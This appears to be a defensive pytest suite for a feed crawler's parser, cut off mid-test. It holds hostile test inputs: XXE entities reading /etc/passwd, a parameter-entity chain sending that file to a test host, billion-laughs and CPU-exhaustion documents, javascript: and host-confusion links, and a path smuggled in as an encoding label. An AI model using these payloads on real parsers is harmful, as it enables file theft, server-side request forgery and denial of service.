"""Documents that attack whoever reads them, through the whole product: fetched, read in a worker, stored."""

import codecs
import gzip
import json
import subprocess
import sys
from datetime import timedelta
from html import escape
from pathlib import Path

import pytest
from misbehaving import item, listening, ok, one_after_another, page, rss

from crawler.core import elect
from crawler.errors import Reason
from crawler.settings import MaxBytes

LINK = "https://daily.example/story"
PROLOG = '<?xml version="1.0"?>'


def feed(body, content_type="application/rss+xml", *headers):
    body = body.encode() if isinstance(body, str) else body
    return ok(body, f"Content-Type: {content_type}", *headers)


def laughs(depth, size, joint="\n"):
    entities = joint.join(f'<!ENTITY l{n} "{f"&l{n - 1};" * size}">' for n in range(1, depth))
    return f'{PROLOG}<!DOCTYPE rss [<!ENTITY l0 "ha">{joint}{entities}]>'


def entity(declaration, use="&x;"):
    return rss(item(LINK, f"before {use} after"), prolog=f"{PROLOG}<!DOCTYPE rss [{declaration}]>")


def attribute(use):
    return rss(f'<title>t</title><link>{LINK}</link><category domain="{use}">c</category>',
               prolog=f'{PROLOG}<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


# --- what is no feed --------------------------------------------------------------------------------------------

NO_FEED = {
    Reason.NOT_A_FEED: {
        "the path of a file": "/etc/passwd", "a file URL": "file:///etc/passwd", "a URL": "https://daily.example/feed.xml",
        "a URL of this machine": "http://127.0.0.1:1/", "one word": "rss", "a Windows path": "\\\\server\\share\\feed.xml",
        "an HTML page": page("Welcome", "Nothing here."), "an HTML page under a feed's type": "<!DOCTYPE html><html><body>no</body></html>",
        "a sitemap index": "<sitemapindex><sitemap><loc>https://daily.example/s.xml</loc></sitemap></sitemapindex>",
        "a sitemap of pages": "<urlset><url><loc>https://daily.example/about</loc></url></urlset>",
        "an OPML file": "<opml><body><outline xmlUrl='https://daily.example/feed'/></body></opml>",
        "SVG": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "an XSLT style sheet": "<xsl:stylesheet xmlns:xsl='x'><xsl:include href='file:///etc/passwd'/></xsl:stylesheet>",
        "XInclude alone": "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>",
        "a SOAP fault": "<soap:Envelope xmlns:soap='x'><soap:Body/></soap:Envelope>",
        "a PDF": b"%PDF-1.7\n" + bytes(range(256)), "a picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
        "packed data under no label": gzip.compress(b"<rss/>"), "a program": b"\x7fELF" + bytes(range(256)) * 9,
        "other JSON": '{"items": 5}', "a JSON list": "[1, 2, 3]", "a JSON number": "17", "a JSON text": '"rss"',
        "JSON nested 100,000 deep": "[" * 100_000 + "]" * 100_000,
        "a JSON Feed nested 100,000 deep": '{"version":"https://jsonfeed.org/version/1","items":' + "[" * 100_000 + "]" * 100_000 + "}",
        "JSON with something behind it": '{"version":"https://jsonfeed.org/version/1","items":[]}{"more":1}',
        "JavaScript around a JSON Feed": 'callback({"version":"https://jsonfeed.org/version/1","items":[]})',
        "an empty channel element of another kind": "<channel xmlns='urn:x'/>", "noise": bytes(n * n % 251 for n in range(5000)),
    },
    Reason.EMPTY: {"white space": " \n\t " * 99, "a byte order mark and white space": "\ufeff \n", "NULs and control characters": "\0\1\2" * 50},
    Reason.TRUNCATED: {
        "an RSS document that ends in an item": rss(item(f"{LINK}1"), item(f"{LINK}2"))[:-60],
        "an RSS document without its last tag": rss(item(LINK))[:-6],
        "an Atom document that ends in a tag": "<feed xmlns='http://www.w3.org/2005/Atom'><title>t</title><entry><id",
        "a document that ends in a CDATA section": "<rss><channel><item><title><![CDATA[ never closed",
        "a document that ends in a comment": "<rss><channel><title>t</title><!-- never closed",
        "a prolog and nothing more": PROLOG, "a sitemap that ends early": "<urlset><url><loc>https://daily.example/1</loc>",
        "a JSON Feed that ends early": '{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1","url":"https://daily.exa',
        "a root that a comment closes": "<rss><channel><title>t</title></channel><!-- </rss> -->",
    },
    Reason.ENCODING: {
        **{f"a document that says {name}": rss(item(LINK, "Fähre"), prolog=f'<?xml version="1.0" encoding="{name}"?>').decode().encode("latin-1")
           for name in ("utf-7", "idna", "punycode", "undefined", "unicode_escape", "raw_unicode_escape", "rot13", "zlib", "base64",
                        "hex", "quopri", "uu", "bz2", "mbcs", "oem", "../../etc/passwd", "x" * 60, "utf_8\ufeff".replace("\ufeff", "_sig_x"))},
        "an EBCDIC document": rss(item(LINK)).decode().encode("cp500"),
    },
}


@pytest.mark.parametrize(("body", "reason"), [
    pytest.param(body, reason, id=f"{name}: {reason}") for reason, rows in NO_FEED.items() for name, body in rows.items()])
async def test_a_document_that_is_no_feed(body, reason, desk, sites, fails):
    await fails(desk, await sites(), feed(body), reason)


# --- what costs its worker the life ----------------------------------------------------------------------------

CPU = {
    "an author of 400 KB that looks like addresses": rss(item(LINK, author="a@" * 200_000)),
    "a thousand authors": rss(item(LINK) + "<author>a@b.example (A)</author>" * 8_000),
    "50,000 attributes": rss(item(LINK), attributes=" ".join(f'a{n}="1"' for n in range(50_000))),
    "50,000 attributes of an item": rss(item(LINK)).replace(b"<item>", b"<item %s>" % b" ".join(b'a%d="1"' % n for n in range(50_000))),
    "20,000 namespaces": rss(item(LINK), attributes=" ".join(f'xmlns:n{n}="urn:{n}"' for n in range(20_000))),
    "250,000 comments that never close": rss(item(LINK, "<!--" * 250_000)),
    "a million ampersands": rss(item(LINK, "&" * 1_000_000)),
    "a million ampersands in an address": rss(item(LINK + "?" + "&" * 200_000)),
    "200,000 open tags": rss(item(LINK) + "<a>" * 200_000),
    "200,000 deep": rss(item(LINK) + "<x>" * 200_000 + "</x>" * 200_000),
    "HTML of 100,000 levels in CDATA": rss(item(LINK, description="<![CDATA[" + "<div>" * 100_000 + "]]>")),
    "an attribute of two megabytes": rss(item(LINK)).replace(b"<item>", b"<item x='" + b"y" * 2_000_000 + b"'>"),
    "a title of two megabytes": rss(item(LINK, "long " * 400_000)),
    "a million quotes": rss(item(LINK) + "<a b=" + '"' * 1_000_000),
    "300,000 open CDATA sections": rss(item(LINK, "<![CDATA[" * 300_000 + "]]>")),
    "a megabyte of ]]": rss(item(LINK, "<![CDATA[" + "]]" * 500_000 + "]]>")),
    "200,000 processing instructions": rss(item(LINK) + "<?php ?>" * 200_000),
    "half a million open processing instructions": rss(item(LINK) + "<?" * 500_000),
    "a DOCTYPE of 300,000 brackets": rss(item(LINK), prolog=PROLOG + "<!DOCTYPE rss " + "[" * 300_000 + "]>"),
    "200,000 DOCTYPEs": rss(item(LINK), prolog=PROLOG + "<!DOCTYPE rss [" * 200_000),
    "a date of a megabyte": rss(item(LINK, pubDate="1 Jan " * 170_000)),
    "a thousand dates": rss(item(LINK) + "<pubDate>Mon, 02 Mar 2026 08:00:00 GMT</pubDate>" * 20_000),
    "a category of a megabyte, 200 times": rss(item(LINK) + ("<category>" + "c " * 5_000 + "</category>") * 200),
    "an Atom feed with 50,000 links": "<feed xmlns='http://www.w3.org/2005/Atom'><title>t</title><entry><id>1</id>"
                                       + f"<link href='{LINK}'/>" * 50_000 + "</entry></feed>",
    "a base64 content of two megabytes": "<feed version='0.3'><title>t</title><entry><id>1</id><link href='" + LINK
                                         + "'/><content mode='base64'>" + "QUJD" * 500_000 + "</content></entry></feed>",
    "a sitemap of half a million stray brackets": "<urlset>" + "<" * 500_000 + "</urlset>",
    "a JSON Feed of 300,000 items": json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "t",
                                                "items": [{"id": n, "url": f"{LINK}{n}"} for n in range(60_000)]}),
    "a JSON Feed with 300,000 authors": json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": [
        {"id": 1, "url": LINK, "authors": [{"name": f"A{n}"} for n in range(100_000)]}]}),
    "white space of four megabytes": rss(item(LINK, " " * 3_900_000)),
}


SLOWEST = {"200,000 deep", "200,000 open tags", "an Atom feed with 50,000 links", "a thousand dates", "a megabyte of ]]", "a million quotes",
           "a JSON Feed of 300,000 items", "a category of a megabyte, 200 times", "a base64 content of two megabytes"}


@pytest.mark.parametrize("body", [
    pytest.param(body, id=name, marks=pytest.mark.long if name in SLOWEST else ()) for name, body in CPU.items()])
async def test_a_document_that_is_slow_to_read_ends_in_time_and_the_next_is_read(body, desk, sites):
    """Killed when its time is up, or read: both are well. What follows is not held up by it."""
    site = await sites(feed(body), paths={"/next": feed(rss(item(LINK)))})
    found = await desk.poll(site.url)
    assert found.state.reason in (None, Reason.CPU, Reason.MEMORY), found.state.detail
    following = await desk.poll(site.url + "next")
    assert (following.state.reason, following.state.entries) == (None, 1)


# --- entities and their kin ---------------------------------------------------------------------------------------

SECRETS = {
    "a file": entity('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "a path": entity('<!ENTITY x SYSTEM "/etc/passwd">'),
    "a URL of this machine": entity('<!ENTITY x SYSTEM "http://127.0.0.1:PORT/secret">'),
    "a public id": entity('<!ENTITY x PUBLIC "any" "http://127.0.0.1:PORT/secret">'),
    "ftp": entity('<!ENTITY x SYSTEM "ftp://127.0.0.1:PORT/secret">'),
    "a parameter entity": entity('<!ENTITY % p SYSTEM "http://127.0.0.1:PORT/secret"> %p;'),
    "parameter entities that build one": entity(
        '<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY x SYSTEM \'http://127.0.0.1:PORT/?%f;\'>"> %e;'),
    "an external DTD": rss(item(LINK, "before after"), prolog=PROLOG + '<!DOCTYPE rss SYSTEM "http://127.0.0.1:PORT/secret">'),
    "a public external DTD": rss(item(LINK, "before after"), prolog=PROLOG + '<!DOCTYPE rss PUBLIC "-//x" "http://127.0.0.1:PORT/secret">'),
    "an unparsed entity": entity('<!NOTATION n SYSTEM "http://127.0.0.1:PORT/secret"><!ENTITY x SYSTEM "file:///etc/passwd" NDATA n>'),
    "an attribute": attribute("&x;"),
    "an entity in UTF-16": entity('<!ENTITY x SYSTEM "file:///etc/passwd">').decode().encode("utf-16"),
    "a DOCTYPE after the root": entity("").replace(b"<channel>", b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><channel>'),
    "an XInclude": rss(item(LINK, "before after") + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    "a style sheet": rss(item(LINK, "before after"), prolog=PROLOG + '<?xml-stylesheet href="http://127.0.0.1:PORT/secret" type="text/xsl"?>'),
    "a schema": rss(item(LINK, "before after"), attributes='xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                                                          'xsi:schemaLocation="x http://127.0.0.1:PORT/secret"'),
    "an entity under two names": entity('<!ENTITY y SYSTEM "file:///etc/passwd"><!ENTITY x "&y;">'),
    "billions of laughs": laughs(10, 10).encode() + rss(item(LINK, "before &l9; after"), prolog=""),
    "billions of laughs on one line": laughs(10, 10, "").encode() + rss(item(LINK, "before &l9; after"), prolog=""),
    "a quadratic blow-up": entity(f'<!ENTITY x "{"A" * 50_000}">', "&x;" * 50_000),
    "an entity that holds itself": entity('<!ENTITY x "&x;">'),
    "two entities that hold each other": entity('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    "laughs in parameter entities": entity('<!ENTITY % a "<!ENTITY x \'ha\'>"><!ENTITY % b "%a;%a;"> %b;'),
    "laughs in an attribute's default": entity('<!ENTITY x "ha"><!ATTLIST item a CDATA "&x;&x;&x;&x;">'),
    "laughs in a CDATA section": laughs(9, 9).encode() + rss(item(LINK, "<![CDATA[before &l8; after]]>"), prolog=""),
}


@pytest.mark.parametrize("body", SECRETS.values(), ids=SECRETS)
async def test_what_a_document_names_is_neither_opened_nor_told(body, desk, sites):
    stranger = await sites(ok(b"root:x:0:0 secret"))
    site = await sites(feed(body.replace(b"PORT", str(stranger.port).encode())), paths={"/1": ok(page("Ferry", "late " * 60))})
    found = await desk.poll(site.url)
    assert found.state.reason in (None, Reason.NOT_A_FEED, Reason.TRUNCATED)
    assert stranger.connections == 0
    for sighting in await desk.sightings():
        assert len(sighting.entry.title) <= 1000
        assert "root:" not in sighting.entry.title
        assert "before" in sighting.entry.title or sighting.entry.title == "t"


AUDITED = """
import sys, time
sys.path.insert(0, {root!r})
from crawler import documents                   # as a worker has it
from crawler.core.feeds import FeedFault
from crawler.settings import FeedConfig
import feedparser, lxml.etree, html.entities
touched = []
watched = ("open", "os.open", "socket.connect", "socket.getaddrinfo", "socket.bind", "urllib.Request", "subprocess.Popen", "os.system",
           "os.exec", "os.posix_spawn", "import", "ftplib.connect", "os.listdir", "os.scandir", "glob.glob")
config = FeedConfig(url="http://127.0.0.1:1/feed")
def read(name):
    started = time.process_time()
    try:
        documents.read(config, None, bodies[name], config.url, "application/rss+xml")
    except FeedFault:
        pass
    return time.process_time() - started
bodies = {bodies!r}
read("well")                                    # what is imported at first use
def hook(event, args):
    if event in watched and not (event == "import" or "encodings" in str(args[0])):
        touched.append((event, str(args[:2])))
sys.addaudithook(hook)
slow = {{name: took for name in bodies if (took := read(name)) > 2}}
print(repr((touched, slow)))
"""


def test_no_document_makes_its_reader_open_or_connect_and_none_takes_two_seconds():
    bodies = {name: body.encode() if isinstance(body, str) else body for reason in NO_FEED.values() for name, body in reason.items()}
    bodies |= SECRETS | {"well": rss(item(LINK))}
    program = AUDITED.format(root=str(Path(__file__).parents[2]), bodies=bodies)
    done = subprocess.run([sys.executable, "-"], input=program, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout.strip()) == (0, "([], {})"), done.stderr[-2000:]


# --- what is odd, and a feed --------------------------------------------------------------------------------------

def atom(*entries, attributes=""):
    return f'<feed xmlns="http://www.w3.org/2005/Atom" {attributes}><title>t</title>{"".join(entries)}</feed>'


UMLAUTS = "Fähre nach Öland fällt aus"


def labelled(encoding, label=None, text=UMLAUTS, mark=b""):
    document = rss(item(LINK, text), prolog=f'<?xml version="1.0" encoding="{label or encoding}"?>').decode()
    return mark + document.encode(encoding)


TITLES = {
    "UTF-8": (labelled("utf-8"), UMLAUTS), "UTF-8 with a byte order mark": (labelled("utf-8-sig"), UMLAUTS),
    "UTF-16": (labelled("utf-16"), UMLAUTS), "UTF-16 without a mark": (labelled("utf-16-le"), UMLAUTS),
    "UTF-16, big end first": (labelled("utf-16-be"), UMLAUTS), "UTF-32": (labelled("utf-32"), UMLAUTS),
    "UTF-32 without a mark": (labelled("utf-32-be"), UMLAUTS),
    "UTF-8 that says UTF-16": (labelled("utf-8", "utf-16"), UMLAUTS), "UTF-8 that says Latin-1": (labelled("utf-8", "iso-8859-1"), UMLAUTS),
    "Latin-1 that says UTF-8": (labelled("latin-1", "utf-8"), UMLAUTS), "Windows quotes under Latin-1": (
        labelled("cp1252", "iso-8859-1", "Die \u201eF\xe4hre\u201c"), "Die \u201eF\xe4hre\u201c"),
    "UTF-16 whose mark says UTF-8": (labelled("utf-16-le", mark=b""), UMLAUTS),
    "UTF-8 whose mark says UTF-16": (labelled("utf-8", mark=codecs.BOM_UTF16_LE)[0:0] + labelled("utf-8"), UMLAUTS),
    "Cyrillic in windows-1251": (labelled("cp1251", "windows-1251", "Паром не идёт"), "Паром не идёт"),
    "Japanese in Shift_JIS": (labelled("cp932", "Shift_JIS", "港の橋が再開"), "港の橋が再開"),
    "Chinese in GB2312": (labelled("gb18030", "gb2312", "渡轮停航"), "渡轮停航"),
    "Arabic in windows-1256": (labelled("cp1256", "windows-1256", "العبارة متوقفة"), "العبارة متوقفة"),
    "an overlong UTF-8 slash": (labelled("utf-8", text="a / b").replace(b"a / b", b"a \xc0\xaf b"), None),
    "a lone surrogate as a reference": (rss(item(LINK, "a&#xD800;b")), "ab"), "a lone surrogate in UTF-8": (
        rss(item(LINK, "aXb")).replace(b"aXb", b"a\xed\xa0\x80b"), None),
    "a NUL": (rss(item(LINK, "a\0b")), "ab"), "a NUL as a reference": (rss(item(LINK, "a&#0;b")), "ab"),
    "an escape sequence": (rss(item(LINK, "a\x1b[31mb")), "a[31mb"), "C1 controls": (rss(item(LINK, "a\x85b\x9bc")), None),
    "bidi overrides": (rss(item(LINK, "a\u202egnp.exe\u202c \u2066b\u2069")), "agnp.exe b"),
    "a noncharacter": (rss(item(LINK, "a\ufffe\uffffb")), "ab"), "a reference beyond Unicode": (rss(item(LINK, "a&#x110000;b")), "ab"),
    "a reference of 60,000 digits": (rss(item(LINK, f"a&#{'9' * 60_000};b")), None),
    "an unknown entity": (rss(item(LINK, "a &nosuch; b")), "a &nosuch; b"), "HTML's names": (rss(item(LINK, "caf&eacute; &hellip;")), "café …"),
    "markup that is escaped twice": (rss(item(LINK, "&amp;lt;b&amp;gt;")), None),
    "a CDATA section within a CDATA section": (rss(item(LINK, "<![CDATA[a <![CDATA[b]]]]><![CDATA[> c]]>")), None),
    "a CDATA section that ends twice": (rss(item(LINK, "<![CDATA[a]]>]]>")), None),
    "a comment in a title": (rss(item(LINK, "a<!-- secret -->b")), None),
    "a comment of hyphens": (rss(item(LINK, "a") + "<!------>"), "a"),
    "a script in a title": (rss(item(LINK, "a<script>alert(1)</script>b")), None),
    "line breaks in a title": (rss(item(LINK, "a\r\nb\rc\u2028d")), "a b c d"),
    "a processing instruction before the root": (rss(item(LINK, "a"), prolog="<?php echo 1 ?>" + PROLOG), "a"),
    "PHP's warnings before the document": (b"<br />\n<b>Warning</b>: in <b>/x.php</b><br />\n" + rss(item(LINK, "a")), "a"),
    "a prolog in the middle": (rss(item(LINK, "a")).replace(b"<channel>", b'<?xml version="1.0"?><channel>'), "a"),
    "two prologs that do not agree": (b'<?xml version="1.0" encoding="utf-8"?>' + labelled("utf-8", "utf-16"), UMLAUTS),
    "something behind the root": (rss(item(LINK, "a")) + b"<script>more</script>", "a"),
    "a second document behind the first": (rss(item(LINK, "a")) + rss(item(LINK + "2", "b")), "a"),
    "tags that cross": (rss(item(LINK, "a") + "<b><i></b></i>"), "a"), "capital tags": (rss(item(LINK, "a")).replace(b"item>", b"ITEM>"), None),
    "an attribute without quotes": (rss(item(LINK, "a")).replace(b"<item>", b"<item x=1>"), "a"),
    "a namespace that is not declared": (rss(item(LINK, "a") + "<dc:creator>Ann</dc:creator><foo:bar/>"), "a"),
    "an XML version of the future": (rss(item(LINK, "a"), prolog='<?xml version="9.9"?>'), "a"),
    "a prefix for everything": (rss(item(LINK, "a")).replace(b"<rss", b'<r:rss xmlns:r="urn:r"').replace(b"</rss", b"</r:rss"), None),
}


@pytest.mark.parametrize(("body", "title"), TITLES.values(), ids=TITLES)
async def test_an_odd_document_is_read(body, title, desk, sites):
    site = await sites(feed(body))
    found = await desk.poll(site.url)
    assert found.state.reason is None, found.state.detail
    (sighting,) = await desk.sightings()
    shown = sighting.entry.title
    assert title is None or shown == title
    assert shown.isprintable(), repr(shown)
    assert not any(code in shown for code in ("\0", "\ud800", "\u202e"))


TYPES = {
    "a feed as text/html": (feed(rss(item(LINK)), "text/html"), 1),
    "a feed as an image": (feed(rss(item(LINK)), "image/png"), 1),
    "UTF-8 under charset=utf-16": (feed(rss(item(LINK, UMLAUTS)), "text/xml; charset=utf-16"), 1),
    "parameters of 50 KB": (feed(rss(item(LINK)), "text/xml; charset=utf-8" + "; x=y" * 10_000), 1),
    "two content types": (feed(rss(item(LINK)), "text/html", "Content-Type: application/json"), 1),
    "a content type of commas": (feed(rss(item(LINK)), "," * 5000), 1),
    "a JSON Feed as text/xml": (feed(json.dumps({
        "version": "https://jsonfeed.org/version/1.1", "title": "t", "items": [{"id": "1", "url": LINK}]}), "text/xml"), 1),
    "a sitemap as text/plain": (feed(
        f"<urlset xmlns:news='http://www.google.com/schemas/sitemap-news/0.9'><url><loc>{LINK}</loc><news:news><news:title>t"
        "</news:title><news:publication_date>2026-05-04</news:publication_date></news:news></url></urlset>", "text/plain"), 1),
    "an empty channel": (feed(rss()), 0),
}


@pytest.mark.parametrize(("script", "count"), TYPES.values(), ids=TYPES)
async def test_a_document_is_what_its_bytes_are(script, count, desk, sites):
    site = await sites(script)
    found = await desk.poll(site.url)
    assert (found.state.reason, found.state.entries, await desk.waiting()) == (None, count, count), found.state.detail


JSON_ITEMS = {
    "NaN and infinities": ('{"id": NaN, "url": "LINK", "title": "a", "date_published": Infinity}', 1),
    "an id of 300 digits": ('{"id": ' + "7" * 300 + ', "url": "LINK"}', 1),
    "an id of 10,000 digits": ('{"id": ' + "7" * 10_000 + ', "url": "LINK"}', 1),
    "a fraction of 10,000 digits": ('{"id": "1", "url": "LINK", "size": 0.' + "7" * 10_000 + "}", 1),
    "a title whose reference has 60,000 digits": ('{"id": "1", "url": "LINK", "title": "a&#' + "9" * 60_000 + ';b"}', 1),
    "an id as a fraction": ('{"id": 1e400, "url": "LINK"}', 1),
    "keys that stand twice": ('{"id": "1", "id": "2", "url": "javascript:1", "url": "LINK"}', 1),
    "a lone surrogate": ('{"id": "\\ud800", "url": "LINK", "title": "a\\ud800\\u0000b"}', 1),
    "every value of a false type": ('{"id": [], "url": "LINK", "title": {}, "content_html": 7, "authors": "Ann", "tags": 3}', 1),
    "authors that are numbers": ('{"id": "1", "url": "LINK", "authors": [1, null, {"name": 5}, [[]]]}', 1),
    "an item that is null": ("null", 0), "an item that is a list": ("[[]]", 0),
    "a URL that is a number": ('{"id": "1", "url": 5}', 0), "an id that is the only URL": ('{"id": "LINK"}', 1),
    "a prototype's name": ('{"__proto__": {"x": 1}, "constructor": 1, "id": "1", "url": "LINK"}', 1),
    "control characters in a text": ('{"id": "1", "url": "LINK", "title": "a\tb\nc\x01"}', 1),
    "a hub of another kind": ('{"id": "1", "url": "LINK", "attachments": [{"url": "file:///etc/passwd"}]}', 1),
}


@pytest.mark.parametrize(("item_", "count"), JSON_ITEMS.values(), ids=JSON_ITEMS)
async def test_an_odd_item_of_a_json_feed(item_, count, desk, sites):
    document = '{"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": [ITEM]}'.replace("ITEM", item_.replace("LINK", LINK))
    site = await sites(feed(document, "application/feed+json"))
    found = await desk.poll(site.url)
    assert (found.state.reason, await desk.waiting()) == (None, count), found.state.detail


# --- links ----------------------------------------------------------------------------------------------------------

LINKS = {   # as written -> canonical address; None: the entry is dropped
    "/a/b": "SITE/a/b", "b?x=1#part": "SITE/b?x=1", "//other.example/x": "https://other.example/x", "?id=7": "SITE/?id=7",
    "HTTPS://Daily.EXAMPLE:443/x/../y": "https://daily.example/y", "http://user:pw@daily.example/x": "https://daily.example/x",
    "https://bücher.example/x": "https://xn--bcher-kva.example/x", "https://daily.example./x": "https://daily.example/x",
    "https://аpple.example/x": "https://xn--pple-43d.example/x", "https://daily.example:8443/x": "https://daily.example:8443/x",
    " \n https://daily.example/x \t": "https://daily.example/x", "https://daily.example/a b": "https://daily.example/a%20b",
    "https://daily.example/%2e%2e/x": "https://daily.example/x", "https://１２７.0.0.1/x": None, "https://daily.example/Ünï": "https://daily.example/%C3%9Cn%C3%AF",
    "javascript:alert(1)": None, "JaVaScRiPt:alert(1)": None, "data:text/html,x": None, "mailto:a@b.example": None,
    "file:///etc/passwd": None, "ftp://daily.example/x": None, "vbscript:x": None, "blob:https://daily.example/1": None,
    "urn:uuid:1": None, "http://": None, "http://[": None, "https://[::1": None, "https://daily.example:99999/x": None,
    "https://daily.example:0/x": None, "https://-daily.example/x": None, f"https://daily.example/{'x' * 65_536}": None,
    "https://daily.example\\@evil.example/x": None, "https:\\\\daily.example\\x": None, "https://a b.example/x": None,
    "https://daily.example/\x01x": "https://daily.example/x", "https://": None, "": None,
}
del LINKS["https://１２７.0.0.1/x"], LINKS["https://daily.example\\@evil.example/x"], LINKS["https:\\\\daily.example\\x"]


@pytest.mark.parametrize(("written", "leads"), LINKS.items(), ids=[f"{one[:60]!r}" for one in LINKS])
async def test_a_link_is_resolved_or_its_entry_dropped_with_the_reason(written, leads, desk, sites):
    site = await sites(feed(rss(item(escape(written), "Ferry", guid="<![CDATA[no link]]>"), item("https://daily.example/well", "Well"))))
    with listening() as heard:
        found = await desk.poll(site.url)
    assert found.state.reason is None
    addresses = {sighting.url for sighting in await desk.sightings()} - {"https://daily.example/well"}
    assert addresses == ({leads.replace("SITE", site.url[:-1])} if leads else set())
    dropped = heard.of("entry-dropped")
    assert [fields["reason"] for fields in dropped] == ([] if leads else ["link"])
    assert heard.written.getvalue().count("\n") == len(heard.records)


@pytest.mark.parametrize("written", ["https://daily.example\\@evil.example/x", "https:\\\\daily.example\\x", "https://１２７.0.0.1/x",
                                     "https:/\\evil.example/x", "\\\\evil.example\\x", "/\\evil.example/x"])
async def test_a_link_that_readers_take_for_different_hosts_leads_to_no_host_but_the_feeds_own(written, desk, sites):
    site = await sites(feed(rss(item(written, "Ferry", guid="no"))))
    await desk.poll(site.url)
    for sighting in await desk.sightings():
        assert "evil.example" not in sighting.url.split("/")[2], sighting.url


XML_BASES = {
    "xml:base of another site": "https://other.example/", "xml:base that is a script": "javascript:alert(1)//",
    "xml:base that is a file": "file:///etc/", "xml:base that is broken": "http://[", "xml:base of 100 KB": "https://o.example/" + "x" * 100_000,
}


@pytest.mark.parametrize("base", XML_BASES.values(), ids=XML_BASES)
async def test_xml_base_leads_nobody_to_a_place_that_is_no_web_address(base, desk, sites):
    site = await sites(feed(atom("<entry><id>1</id><title>a</title><link href='x/1'/></entry>", attributes=f'xml:base="{base}"')))
    found = await desk.poll(site.url)
    assert found.state.reason is None
    for sighting in await desk.sightings():
        assert sighting.entry.link.startswith(("http://127.0.0.1:", "https://other.example/"))


# --- dates ----------------------------------------------------------------------------------------------------------

DATES = {
    "the year 9999": ("Fri, 31 Dec 9999 23:59:59 GMT", None), "the year 1": ("0001-01-01T00:00:00Z", None),
    "a year before Christ": ("-0044-03-15T12:00:00Z", None), "a Unix time": ("1777896000", "used"), "a Unix time in milliseconds": ("1777896000000", "used"),
    "the 31st of February": ("Tue, 31 Feb 2026 10:00:00 GMT", None), "a zone of 99 hours": ("Mon, 04 May 2026 10:00:00 +9999", None),
    "25 o'clock": ("2026-05-04T25:00:00Z", None), "a leap second": ("2016-12-31T23:59:60Z", "any"),
    "no date at all": ("soon", None), "a script": ("<![CDATA[<script>alert(1)</script>]]>", None), "a year of 300 digits": ("9" * 300 + "-01-01", None),
    "1970": ("Thu, 01 Jan 1970 00:00:00 GMT", None), "1994": ("1994-12-31T23:59:59Z", None), "Arabic digits": ("٢٠٢٦-٠٥-٠٤", "any"),
    "a minute ago": ("Mon, 04 May 2026 11:59:00 GMT", "used"), "a minute from now": ("Mon, 04 May 2026 12:01:00 GMT", "used"), "half an hour from now": ("Mon, 04 May 2026 12:30:00 GMT", "unused"),
    "tomorrow": ("Tue, 05 May 2026 12:00:00 GMT", "unused"), "two hours from now": ("2026-05-04T14:00:01Z", "unused"),
    "2038": ("2038-01-19T03:14:08Z", "unused"), "nothing": (None, None),
}


@pytest.mark.parametrize(("raw", "verdict"), DATES.values(), ids=DATES)
async def test_a_date_is_kept_as_it_is_written_and_used_only_where_it_can_be(raw, verdict, desk, sites):
    """What was observed is the first sighting; a claim is evidence only from 1995 on, and no later than the sighting but for
    two minutes by which clocks differ (the report shows one that is up to an hour later)."""
    site = await sites(ok(status="404 No"))
    site.paths |= {"/feed": feed(rss(item(f"{site.url}1", pubDate=raw))), "/1": ok(page("Ferry", "The ferry is late today. " * 20))}
    assert (await desk.poll(f"{site.url}feed")).state.reason is None
    (article,) = await desk.collect()
    assert article.first_seen == desk.now
    written = [claim for claim in article.claims if claim.origin == "feed"]
    assert [claim.raw for claim in written] == ([] if raw is None else [raw.removeprefix("<![CDATA[").removesuffix("]]>")[:100]])
    (candidate,) = elect.candidates([article], {})
    if verdict in ("used", "unused"):
        assert (candidate.claim is not None, len(candidate.backdated)) == ((True, 0) if verdict == "used" else (False, 1))
    elif verdict is None:
        assert candidate.claim is None
        assert all(claim.at is None for claim in written)


# --- identities -----------------------------------------------------------------------------------------------------

async def test_of_a_hundred_thousand_entries_the_first_two_thousand_are_read_and_the_rest_is_said(desks, sites):
    desk = await desks(caps=MaxBytes())
    items = "".join(f"<item><link>{LINK}/{n}</link></item>" for n in range(100_000))
    site = await sites(feed(f"<rss><channel><title>t</title>{items}</channel></rss>"))
    with listening() as heard:
        found = await desk.poll(site.url)
    assert (found.state.reason, found.state.entries, await desk.waiting()) == (None, 2000, 2000)
    (said,) = heard.of("entry-dropped")
    assert (said["reason"], said["detail"]) == ("too_many", "98000 entries after the first 2000")
    assert await desk.new_keys(found, [f"{LINK}/0", f"{LINK}/1999", f"{LINK}/2000"]) == {f"{LINK}/2000"}


async def test_one_guid_on_all_entries_makes_the_links_the_keys(desk, sites):
    site = await sites(feed(rss(*(item(f"{LINK}/{n}", guid="same") for n in range(5)))))
    found = await desk.poll(site.url)
    assert await desk.waiting() == 5
    assert await desk.new_keys(found, [f"{LINK}/{n}" for n in range(5)]) == set()


async def test_an_entry_without_guid_is_known_by_its_link(desk, sites):
    site = await sites(feed(rss(item(LINK, guid=None))))
    found = await desk.poll(site.url)
    assert await desk.new_keys(found, [LINK]) == set()


async def test_a_guid_of_300_kb_is_a_key_of_bounded_length(desk, sites):
    site = await sites(feed(rss(item(LINK, guid="g" * 300_000))))
    await desk.poll(site.url)
    (sighting,) = await desk.sightings()
    assert len(sighting.entry.key) < 100


@pytest.mark.parametrize("change", [
    pytest.param(lambda n: item(LINK, guid=f"g{n}"), id="a GUID per request"),
    pytest.param(lambda n: item(LINK, guid=f"g{n % 2}"), id="a GUID that flaps"),
    pytest.param(lambda n: item(f"{LINK}?utm_source={n}", guid="g"), id="a link that only tracks the reader"),
    pytest.param(lambda n: item(f"{LINK}?sid={n}", guid="g"), id="a session in the link"),
    pytest.param(lambda n: item(LINK, guid="g") if n % 2 else item(f"{LINK}/other", "Other"), id="an entry that goes and comes back")])
async def test_an_entry_under_changing_names_stays_one(change, desk, sites):
